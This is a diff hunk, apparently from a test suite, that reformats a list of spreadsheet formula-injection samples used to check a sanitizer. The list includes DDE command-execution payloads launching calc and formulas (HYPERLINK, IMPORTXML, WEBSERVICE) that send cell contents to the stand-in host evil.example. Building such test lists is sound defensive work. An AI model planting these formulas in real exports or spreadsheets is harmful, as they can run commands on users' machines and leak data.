@@ -15,7 +15,8 @@ DANGEROUS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x", "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"win")',
     '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc")',
-    '"=1+1', '""=1+1', "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n+1", 'x";=1+1', "x; =1+1", "x,=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1",
+    '"=1+1', '""=1+1', "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n+1", 'x";=1+1', "x; =1+1", "x,=1+1",
+    "\uff1d1+1", "\uff0b1", "\uff0d1",
     "\uff20x", "\u00a0=1+1", "\x00=1+1", "\x0b=1+1", "\u2028=1+1", "+491701234567", "-", "=", "@",
     "x|=1+1", "\u3000=1+1", "'=1+1",
 ]  # fmt: skip
